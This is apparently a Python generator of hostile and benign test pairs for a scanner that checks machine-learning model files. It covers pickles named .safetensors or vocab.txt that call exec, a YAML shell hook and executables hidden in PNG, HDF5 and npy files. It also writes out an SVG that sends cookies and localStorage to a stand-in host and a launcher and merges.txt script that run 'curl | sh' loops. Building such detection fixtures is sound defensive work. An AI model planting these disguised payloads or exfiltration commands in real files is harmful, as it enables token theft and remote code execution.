"""Polyglots, lying extensions, appended and hidden content."""
import io
import json
import struct

import numpy as np

from assembly import call, glob, model, pickle
from pair import CODE, SHELL

from .kerases import keras, lam, layer, sequential, source
from .libraries import npy
from .shared import LLAMA, elf, floats, gguf, noise, plain_tensors, png, torch_zip

F = "everywhere"


def h5_block(block: bytes) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=8192) as f:
        f.create_dataset("dense/kernel", data=np.frombuffer(floats(12), "f4"))
    data = bytearray(buf.getvalue())
    data[: len(block)] = block
    return bytes(data)


def macho(size: int) -> bytes:
    """A Mach-O 64 executable header with its segment and entry point."""
    name = lambda s: s.ljust(16, b"\0")  # noqa: E731
    zero = struct.pack("<II16sQQQQiiII", 0x19, 72, name(b"__PAGEZERO"), 0, 1 << 32, 0, 0, 0, 0, 0, 0)
    text = struct.pack("<II16sQQQQiiII", 0x19, 72, name(b"__TEXT"), 1 << 32, 0x4000, 0, 0x4000, 5, 5, 0, 0)
    link = b"/usr/lib/dyld\0".ljust(20, b"\0")
    dyld = struct.pack("<III", 0xE, 32, 12) + link
    main = struct.pack("<IIQQ", 0x80000028, 24, 0x3F00, 0)
    loads = zero + text + dyld + main
    return (struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 4, len(loads), 0x85, 0) + loads + noise(size, 12))[:size]


def pe(size: int) -> bytes:
    """A PE32+ program: DOS stub, COFF and optional header, one section."""
    stub = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".ljust(60, b"\0") + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0x65000000, 0, 0, 240, 0x22)
    optional = struct.pack("<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", 0x20B, 14, 0, 512, 512, 0, 0x1000, 0x1000, 0x140000000, 0x1000, 512, 6, 0, 0, 0, 6, 0, 0, 0x2000, 512, 0, 3, 0x8160, 1 << 20, 4096, 1 << 20, 4096, 0, 16) + bytes(128)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, 0x60000020)
    return (stub + coff + optional + section).ljust(512, b"\0") + noise(size - 512, 13)


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    run = call(glob("builtins", "exec"), CODE)
    bad, good = keras(sequential([source(), lam("[open('marker', 'w').close(), x][1]")])), keras(sequential([source(), layer("ReLU", {"max_value": 6.0})]))
    pair("picture-that-is-a-keras-archive", {"architecture.png": png(bad), "README.md": "![architecture](architecture.png)\n\nload_model accepts the file as it is.\n"}, {"architecture.png": png(), "model.keras": good, "README.md": "![architecture](architecture.png)\n"},
         "A picture whose tail is a .keras archive with a Lambda; zipfile, and so Keras, opens it from the end.", "ninth-keras-any:architecture.png")
    pair("pickle-named-safetensors", {"model.safetensors": pickle(model(run)), "config.json": '{"model_type": "bert"}'}, {"model.safetensors": plain_tensors(), "config.json": '{"model_type": "bert"}'},
         "The file that should be safe is a pickle; a loader that goes by content runs it.", "ninth-pickle-file:model.safetensors")
    pair("program-after-picture", {"figures/loss.png": png(elf(size=3000)), "model.safetensors": plain_tensors()}, {"figures/loss.png": png(b"\0" * 16), "model.safetensors": plain_tensors()}, "An ELF program after the end of a PNG.")
    both = lambda last: npy("'<f4'", "(16,)", floats(16)) + last  # noqa: E731
    arr = lambda obj: npy("'|O'", "(1,)", pickle(obj))  # noqa: E731
    pair("second-array-in-npy", both(arr(run)), both(npy("'<U3'", "(2,)", "catdog".encode("utf-32-le"))), "np.load is called twice on the file, as np.save allows; the second array is an object array that calls exec.", "ninth-npy-twice", "weights.npy")
    yam = lambda text: ("\ufeff" + text).encode("utf-16-le")  # noqa: E731
    pair("utf16-yaml-object", yam(f"model: tiny\nlayers: [8, 4]\nhook: !!python/object/apply:subprocess.check_output\n  args: ['{SHELL}']\n  kwds: {{shell: true}}\n"), yam("model: tiny\nlayers: [8, 4]\nhook: !!str check_output\n"),
         "A YAML in UTF-16 that starts a shell under the full loader.", "ninth-yaml", "hparams.yaml")
    svg = lambda extra: f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"{extra[0]}><title>confusion matrix</title><rect width="32" height="32" fill="#48a"/><text x="4" y="50">0.93</text>{extra[1]}</svg>\n'  # noqa: E731
    pair("figure-steals-tokens", {"confusion_matrix.svg": svg((' onload="new Image().src=\'//198.51.100.23/?\'+btoa(JSON.stringify(localStorage)+document.cookie)"', "")), "model.safetensors": plain_tensors()},
         {"confusion_matrix.svg": svg(("", "<desc>rows are labels</desc>")), "model.safetensors": plain_tensors()}, "The figure of the model card sends cookies and stored tokens away when a hub shows it. Not run: needs a browser.")
    desk = lambda line: {"Open Model.desktop": f"[Desktop Entry]\nType=Application\nName=Open Model\nIcon=x-office-document\nTerminal=false\nExec={line}\n", "model.safetensors": plain_tensors()}  # noqa: E731
    pair("desktop-entry-runs-download", desk("sh -c \"curl -s http://198.51.100.23/d | sh\""), desk("xdg-open model.safetensors"), "A launcher dressed as a document downloads and runs a script. Not run: network.")
    pair("program-in-user-block", h5_block(pe(6000)), h5_block(json.dumps({"note": "written by the trainer", "epoch": 3}).encode()), "The user block of an HDF5 file is a Windows program: the file is both.", None, "weights.h5")
    old = lambda line: b"(dp0\nVepoch\nI3\nsVextra\n" + line + b"sVname\nVtiny\ns."  # noqa: E731
    pair("protocol-0-named-vocab", {"vocab.txt": old(b"cbuiltins\nexec\n(V" + CODE.encode() + b"\ntR"), "config.json": '{"model_type": "bert"}'}, {"vocab.txt": old(b"(V[PAD]\nV[UNK]\nt"), "config.json": '{"model_type": "bert"}'},
         "A text pickle in vocab.txt that calls exec.", "ninth-pickle-file:vocab.txt")
    image = lambda raw: npy("'|u1'", f"({len(raw)},)", raw)  # noqa: E731
    pair("program-as-byte-array", image(macho(8192)), image(noise(8192, 14)), "A Mach-O program kept as a byte array.", None, "lookup.npy")
    tail = torch_zip(pickle({"w": [0.5], "x": run}, 2))
    pair("gguf-and-zip", gguf(LLAMA, tail=floats(256) + tail), gguf(LLAMA), "A GGUF with a torch archive behind the tensors: zip readers open the archive, whose pickle calls exec.", "ninth-zip-pickle:archive/data.pkl", "model.gguf")
    pair("script-named-merges", {"merges.txt": f"#!/bin/sh\n# version: 0.2\n{SHELL}\nnohup sh -c 'while :; do curl -s 198.51.100.23/c | sh; sleep 60; done' >/dev/null 2>&1 &\n", "tokenizer.json": '{"version": "1.0"}'}, {"merges.txt": "#version: 0.2\nt h\nth e\ni n\n", "tokenizer.json": '{"version": "1.0"}'},
         "merges.txt is a shell script that fetches commands for ever. Not run: network.")

